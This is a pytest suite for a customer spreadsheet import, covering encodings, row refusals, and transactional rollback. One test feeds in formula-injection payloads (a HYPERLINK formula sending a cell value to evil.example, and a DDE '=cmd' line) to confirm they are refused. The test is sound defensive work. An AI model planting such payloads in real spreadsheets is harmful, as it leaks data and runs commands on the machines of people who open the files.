"""Customer import: reading .xlsx and CSV (every encoding Korean Excel writes), each reason a
row is refused, formula cells, and the import unit — all or nothing, and a second run adds
nothing (SQLite and PostgreSQL)."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from conftest import kst, make_settings
from openpyxl import Workbook
from sqlalchemy.engine import Connection
from support.outbox import add_shop

from core.db import Database
from core.importing import FileRefused, Formula, plan_import, read_sheet
from core.importing.sample import COLUMNS, SAMPLE, write_csv, write_xlsx
from core.importing.unit import assess, consent_source, import_customers
from core.models import AuditEntry, Consent, Customer, CustomerIdentity, Job, JourneyStep

SHOP = make_settings().shops[0]
SERVICES = SHOP.services
TZ = SHOP.timezone
TODAY = date(2026, 11, 23)
NOW = kst(2026, 11, 23, 10, 0)
ROOT = Path(__file__).resolve().parents[2]


def plan_of(data: bytes) -> Any:
    return plan_import(read_sheet(data), SERVICES, TODAY)


def csv_of(
    *rows: tuple[object, ...], header: tuple[str, ...] = COLUMNS, enc: str = "utf-8"
) -> bytes:
    text = ",".join(header) + "\r\n"
    text += "".join(",".join("" if v is None else str(v) for v in row) + "\r\n" for row in rows)
    return text.encode(enc)


def reasons(data: bytes) -> dict[int, str]:
    return {r.row: r.code for r in plan_of(data).refusals}


# --------------------------------------------------------------------------- reading


@pytest.mark.parametrize("enc", ["utf-8", "utf-8-sig", "cp949"])
def test_csv_in_each_encoding_korean_excel_writes_reads_the_same(enc: str) -> None:
    data = write_csv(
        [("김단골", "010-1234-5678", "aircon", "2025-06-14", "예", "2024-03-02", "서면")],
        encoding=enc,
    )
    sheet = read_sheet(data)
    assert sheet.encoding == enc
    assert sheet.rows[0][0] == "이름"  # no BOM glued to the first header
    plan = plan_import(sheet, SERVICES, TODAY)
    assert plan.refusals == []
    assert plan.people[0].name == "김단골"


def test_a_csv_mixing_utf8_and_cp949_is_refused_not_misread() -> None:
    data = (
        "이름,전화번호\r\n김단골,010-1234-5678\r\n".encode()
        + "이보일러,010-9876-1111\r\n".encode("cp949")
    )
    with pytest.raises(FileRefused) as refused:
        read_sheet(data)
    assert refused.value.code == "encoding"
    assert "CSV UTF-8" in refused.value.message


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "empty"),
        (b"   \r\n\r\n", "empty"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(200), "not_a_sheet"),
        (b"%PDF-1.7\n" + bytes(range(256)) * 4, "not_a_sheet"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "old_excel"),
        (b"PK\x03\x04garbage that is no zip", "broken"),
        (b"just one line of prose without any commas", "not_a_sheet"),
    ],
)
def test_what_is_not_a_customer_list_is_refused_with_a_korean_message(
    data: bytes, code: str
) -> None:
    with pytest.raises(FileRefused) as refused:
        read_sheet(data)
    assert refused.value.code == code
    assert any("\uac00" <= ch <= "\ud7a3" for ch in refused.value.message)


def test_a_zip_that_is_no_workbook_is_not_a_sheet() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("word/document.xml", "<w/>")
    with pytest.raises(FileRefused) as refused:
        read_sheet(out.getvalue())
    assert refused.value.code == "not_a_sheet"


@pytest.mark.parametrize(
    "header",
    [("이름", "주소"), ("name", "address"), ("고객", "번호")],
)
def test_missing_required_columns_are_named(header: tuple[str, str]) -> None:
    with pytest.raises(FileRefused) as refused:
        plan_of(csv_of(("김단골", "서울"), header=header))
    assert refused.value.code == "missing_columns"
    assert "전화번호" in refused.value.message


def test_english_headers_and_a_title_row_above_them() -> None:
    data = b"Customer list 2025,,\r\nname,phone,service,date,consent,consent_date\r\nKim,01012345678,lawn,2025-05-01,yes,2025-05-01\r\n"
    plan = plan_of(data)
    assert plan.refusals == []
    assert plan.people[0].jobs[0].service == "lawn"
    assert plan.people[0].consent is not None
    assert plan.people[0].consent.granted


def test_the_sample_files_in_docs_are_what_the_generator_writes_and_import_cleanly(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("DANGOL_DEMO_SKILL_SECRET", "x" * 32)
    csv_file = (ROOT / "docs" / "import-sample.csv").read_bytes()
    assert csv_file == write_csv(SAMPLE)
    xlsx = read_sheet((ROOT / "docs" / "import-sample.xlsx").read_bytes())
    assert xlsx.rows == read_sheet(write_xlsx(SAMPLE)).rows
    example = __import__("core.config", fromlist=["load"]).load(ROOT / "config.example.toml")
    for data in (csv_file, (ROOT / "docs" / "import-sample.xlsx").read_bytes()):
        plan = plan_import(read_sheet(data), example.shops[0].services, TODAY)
        assert plan.refusals == []
        assert (len(plan.people), plan.jobs, plan.consents) == (4, 4, 3)


# --------------------------------------------------------------------------- refusals


def test_each_reason_a_row_is_refused() -> None:
    data = csv_of(
        ("김단골", "010-1234-5678", "aircon", "2025-06-14", "예", "2024-03-02", ""),  # 2 ok
        ("번호틀림", "12-34", "", "", "", "", ""),  # 3
        ("", "", "aircon", "2025-06-14", "", "", ""),  # 4
        ("서비스모름", "010-2222-0001", "보일러", "2025-06-14", "", "", ""),  # 5
        ("날짜아님", "010-2222-0002", "aircon", "어제쯤", "", "", ""),  # 6
        ("미래", "010-2222-0003", "aircon", "2026-11-24", "", "", ""),  # 7
        ("김단골", "010-1234-5678", "에어컨 청소", "2025.06.14", "", "", ""),  # 8: dup of 2
        ("김딴골", "010-1234-5678", "lawn", "2025-07-01", "", "", ""),  # 9: other name
        ("동의날짜없음", "010-2222-0004", "", "", "예", "", ""),  # 10
        ("동의모름", "010-2222-0005", "", "", "글쎄", "", ""),  # 11
        ("동의미래", "010-2222-0006", "", "", "예", "2027-01-01", ""),  # 12
        ("서비스없음", "010-2222-0007", "", "2025-01-01", "", "", ""),  # 13
        ("작업일없음", "010-2222-0008", "lawn", "", "", "", ""),  # 14
        ("김단골", "010-1234-5678", "", "", "아니오", "2024-03-02", ""),  # 15: consent differs
        ("이름만", "010 2222 0009", "", "", "", "", ""),  # 16 ok
    )
    assert reasons(data) == {
        3: "phone_bad",
        4: "phone_missing",
        5: "service_unknown",
        6: "date_bad",
        7: "date_future",
        8: "duplicate",
        9: "name_conflict",
        10: "consent_date_missing",
        11: "consent_bad",
        12: "consent_date_future",
        13: "service_missing",
        14: "date_missing",
        15: "consent_conflict",
    }
    plan = plan_of(data)
    assert [line.row for line in plan.lines] == [2, 16]
    refusal = {r.row: r.message for r in plan.refusals}
    assert "보일러" in refusal[5]
    assert "2행" in refusal[8]


def test_dates_and_phones_in_the_shapes_excel_and_people_write_them() -> None:
    data = csv_of(
        ("가", "01011110001", "aircon", "2025.6.14", "", "", ""),
        ("나", "+82 10-1111-0002", "aircon", "2025년 6월 14일", "", "", ""),
        ("다", "010.1111.0003", "aircon", "20250614", "", "", ""),
        ("라", "010-1111-0004", "aircon", "25/06/14", "", "", ""),
        ("마", "010-1111-0005", "aircon", "45822", "", "", ""),  # Excel's day number
    )
    plan = plan_of(data)
    assert plan.refusals == []
    assert {p.jobs[0].on for p in plan.people} == {date(2025, 6, 14)}
    assert [p.phone for p in plan.people] == [f"+821011110{n:03d}" for n in range(1, 6)]


def xlsx_bytes(rows: list[list[object]]) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_xlsx_cells_typed_by_excel_dates_and_numbers_lost_their_leading_zero() -> None:
    data = xlsx_bytes(
        [
            list(COLUMNS),
            ["김단골", 1012345678, "aircon", datetime(2025, 6, 14), "예", date(2024, 3, 2), None],
            ["서울집", 212345678, "lawn", date(2025, 5, 1), None, None, None],
        ]
    )
    plan = plan_of(data)
    assert plan.refusals == []
    assert [p.phone for p in plan.people] == ["+821012345678", "+82212345678"]
    assert plan.people[0].consent is not None
    assert plan.people[0].consent.on == date(2024, 3, 2)


def test_formula_cells_are_never_evaluated_and_their_rows_refused() -> None:
    data = xlsx_bytes(
        [
            list(COLUMNS),
            ['=HYPERLINK("http://evil.example/?"&B2,"김단골")', "010-1234-5678", None, None],
            ["이보일러", "=1+1", None, None],
            ["박정원", "010-5555-0202", None, None],
        ]
    )
    sheet = read_sheet(data)
    assert isinstance(sheet.rows[1][0], Formula)
    plan = plan_import(sheet, SERVICES, TODAY)
    assert {r.row: r.code for r in plan.refusals} == {2: "formula", 3: "formula"}
    assert "A2" in plan.refusals[0].message
    assert "B3" in plan.refusals[1].message
    assert [p.name for p in plan.people] == ["박정원"]
    # In a CSV too: Excel would run it on opening.
    assert reasons(
        csv_of(("=cmd|' /C calc'!A0", "010-1234-5678"), header=("이름", "전화번호"))
    ) == {2: "formula"}


# --------------------------------------------------------------------------- the unit


async def counts(database: Database) -> dict[str, int]:
    async with database.read() as conn:
        return {
            name: (await conn.execute(sa.select(sa.func.count()).select_from(model))).scalar_one()
            for name, model in (
                ("customers", Customer),
                ("identities", CustomerIdentity),
                ("jobs", Job),
                ("consents", Consent),
                ("steps", JourneyStep),
            )
        }


async def run_import(database: Database, shop_id: int, data: bytes, name: str = "단골.xlsx") -> Any:
    plan = plan_of(data)
    return await database.write(
        import_customers(shop_id, plan, SERVICES, file_name=name, actor="user:1", tz=TZ, now=NOW)
    )


LIST = write_xlsx(
    [
        ("김단골", "010-1234-5678", "aircon", "2025-06-14", "예", "2024-03-02", "매장 서면"),
        ("김단골", "010-1234-5678", "lawn", "2024-07-01", "", "", ""),
        ("이보일러", "010-9876-1111", "aircon", "2025-01-20", "아니오", "2025-01-20", "전화"),
        ("새고객", "010-3333-4444", "", "", "", "", ""),
        ("틀린번호", "123", "", "", "", "", ""),
    ]
)


async def test_import_writes_customers_history_and_consents_and_a_rerun_adds_nothing(
    database: Database,
) -> None:
    shop_id = await add_shop(database, NOW)

    # One of them is a customer already, without a name, with the same aircon job done.
    def existing(conn: Connection) -> None:
        cid = conn.execute(
            sa.insert(Customer)
            .values(shop_id=shop_id, name=None, tier="bronze", tags=[], notes="", created_at=NOW)
            .returning(Customer.id)
        ).scalar_one()
        conn.execute(
            sa.insert(CustomerIdentity).values(
                shop_id=shop_id,
                customer_id=cid,
                kind="phone",
                value="+821098761111",
                created_at=NOW,
            )
        )
        at = kst(2025, 1, 20, 14, 0)
        conn.execute(
            sa.insert(Job).values(
                shop_id=shop_id,
                customer_id=cid,
                service="aircon",
                service_name="에어컨 청소",
                starts_at=at,
                ends_at=at,
                status="done",
                booked_at=at,
                created_at=NOW,
                updated_at=NOW,
            )
        )

    await database.write(existing)
    async with database.read() as conn:
        preview = await conn.run_sync(lambda c: assess(c, shop_id, plan_of(LIST), TZ, NOW))
    outcome = await run_import(database, shop_id, LIST)
    assert outcome == preview
    assert outcome.as_detail() == {
        "customers_new": 2,
        "customers_matched": 1,
        "jobs_added": 2,
        "jobs_existing": 1,
        "consents_recorded": 2,
        "rows_refused": 1,
    }
    before = await counts(database)
    assert before == {"customers": 3, "identities": 3, "jobs": 3, "consents": 2, "steps": 0}
    async with database.read() as conn:
        jobs = (
            await conn.execute(sa.select(Job).where(Job.source == "import").order_by(Job.starts_at))
        ).all()
        consents = (await conn.execute(sa.select(Consent).order_by(Consent.created_at))).all()
        named = (await conn.execute(sa.select(Customer.name).order_by(Customer.id))).scalars().all()
        audit = (
            await conn.execute(
                sa.select(AuditEntry.action, AuditEntry.detail).order_by(AuditEntry.id)
            )
        ).all()
    assert [(j.service, j.status, j.starts_at) for j in jobs] == [
        ("lawn", "done", kst(2024, 7, 1).astimezone(UTC)),
        ("aircon", "done", kst(2025, 6, 14).astimezone(UTC)),
    ]
    assert [(c.granted, c.created_at, c.source) for c in consents] == [
        (True, kst(2024, 3, 2).astimezone(UTC), "import:단골.xlsx"),
        (False, kst(2025, 1, 20).astimezone(UTC), "import:단골.xlsx"),
    ]
    assert named == ["이보일러", "김단골", "새고객"]  # the nameless customer got the file's name
    actions = [a.action for a in audit]
    assert actions.count("consent_granted") == 1
    assert actions.count("consent_withdrawn") == 1
    assert audit[-1].action == "customers_imported"
    assert audit[-1].detail["jobs_added"] == 2
    assert audit[-1].detail["file"] == "단골.xlsx"

    again = await run_import(database, shop_id, LIST)
    assert (again.customers_new, again.jobs_added, again.consents_recorded) == (0, 0, 0)
    assert again.customers_matched == 3
    assert again.jobs_existing == 3
    assert await counts(database) == before


async def test_an_import_that_fails_halfway_leaves_nothing(
    database: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    shop_id = await add_shop(database, NOW)
    from core.importing import unit as unit_mod

    def broken(conn: Connection, changes: Any) -> None:
        raise RuntimeError("disk gone while recording consents")

    monkeypatch.setattr(unit_mod, "record_consents", broken)
    with pytest.raises(RuntimeError):
        await run_import(database, shop_id, LIST)
    assert await counts(database) == {
        "customers": 0,
        "identities": 0,
        "jobs": 0,
        "consents": 0,
        "steps": 0,
    }
    async with database.read() as conn:
        assert (
            await conn.execute(sa.select(sa.func.count()).select_from(AuditEntry))
        ).scalar_one() == 0


async def test_a_number_of_the_file_stored_by_someone_else_meanwhile_fails_the_whole_import(
    database: Database,
) -> None:
    """Between the unit's look-up and its insert nothing can come (one writer, one
    transaction); the unique index is still the last word, and then nothing is kept."""
    shop_id = await add_shop(database, NOW)
    plan = plan_of(LIST)
    unit = import_customers(
        shop_id, plan, SERVICES, file_name="a.csv", actor="user:1", tz=TZ, now=NOW
    )
    from core.importing import unit as unit_mod

    real = unit_mod._known

    def blind(conn: Connection, shop: int, phones: Any) -> dict[str, int]:
        cid = conn.execute(
            sa.insert(Customer)
            .values(shop_id=shop, name="먼저", tier="bronze", tags=[], notes="", created_at=NOW)
            .returning(Customer.id)
        ).scalar_one()
        conn.execute(
            sa.insert(CustomerIdentity).values(
                shop_id=shop, customer_id=cid, kind="phone", value="+821033334444", created_at=NOW
            )
        )
        return {}

    unit_mod._known = blind  # type: ignore[assignment]
    try:
        with pytest.raises(sa.exc.IntegrityError):
            await database.write(unit)
    finally:
        unit_mod._known = real
    assert (await counts(database))["customers"] == 0
    assert consent_source("x" * 80) == ("import:" + "x" * 80)[:40]


async def test_imported_history_sets_each_customers_tier(database: Database) -> None:
    """Tiers follow completed jobs, imported ones too: two → 브론즈, none → no tier yet; and
    three → 실버 once a second file adds the third."""
    shop_id = await add_shop(database, NOW)
    await run_import(database, shop_id, LIST)

    async def tiers() -> dict[str, str | None]:
        async with database.read() as conn:
            found = await conn.execute(sa.select(Customer.name, Customer.tier))
            return {str(name): tier for name, tier in found}

    assert {k: v for k, v in (await tiers()).items() if k in ("김단골", "새고객")} == {
        "김단골": "bronze",
        "새고객": None,
    }
    more = write_xlsx([("김단골", "010-1234-5678", "aircon", "2025-09-01", "", "", "")])
    await run_import(database, shop_id, more, name="more.xlsx")
    assert (await tiers())["김단골"] == "silver"
